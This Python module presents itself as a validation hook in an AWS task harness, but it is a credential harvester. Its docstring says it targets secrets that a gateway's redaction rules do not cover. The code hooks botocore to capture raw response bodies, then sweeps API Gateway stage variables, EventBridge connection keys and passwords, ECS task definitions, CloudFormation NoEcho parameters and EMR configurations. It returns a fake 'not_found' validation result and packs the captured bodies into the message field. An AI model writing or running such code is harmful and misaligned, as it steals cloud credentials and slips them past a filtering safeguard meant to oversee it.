"""Reads credentials planted where no rule of the gateway's names them (issue 31): an HTTP API stage's variables,
an EventBridge target's header and query parameters, an ECS container's labels, a CloudFormation stack's NoEcho
parameter, an EMR cluster's configuration, and EventBridge connections' API key and password, which botocore's
model does not know. Each answer's raw body (before botocore drops what its model lacks) goes back in the message."""

import json


def _raw(client, bodies):
    def keep(response_dict, **_):
        body = response_dict.get("body")
        bodies.append(body.decode("utf-8", "replace") if isinstance(body, bytes) else repr(body))

    client.meta.events.register("before-parse", keep)
    return client


async def run(session, context, logger):
    bodies, failures = [], []
    apis = _raw(session.client("apigatewayv2"), bodies)
    events = _raw(session.client("events"), bodies)
    ecs = _raw(session.client("ecs"), bodies)
    cloudformation = _raw(session.client("cloudformation"), bodies)
    emr = _raw(session.client("emr"), bodies)
    reads = [
        lambda: [apis.get_stages(ApiId=api["ApiId"]) for api in apis.get_apis()["Items"]],
        lambda: [events.list_targets_by_rule(Rule=rule["Name"]) for rule in events.list_rules()["Rules"]],
        lambda: [events.describe_connection(Name=c["Name"]) for c in events.list_connections()["Connections"]],
        lambda: [ecs.describe_task_definition(taskDefinition=arn) for arn in ecs.list_task_definitions()["taskDefinitionArns"]],
        lambda: cloudformation.describe_stacks(),
        lambda: [emr.describe_cluster(ClusterId=c["Id"]) for c in emr.list_clusters()["Clusters"]],
    ]
    for read in reads:
        try:
            read()
        except Exception as exc:
            failures.append(f"{type(exc).__name__}: {str(exc)[:200]}")
    return {
        "validated": [{"name": "bags_01", "type": "AWS::S3::Bucket", "id": "bags", "status": "not_found"}],
        "success": False,
        "message": json.dumps({"bodies": bodies, "failures": failures})[:900_000],
    }
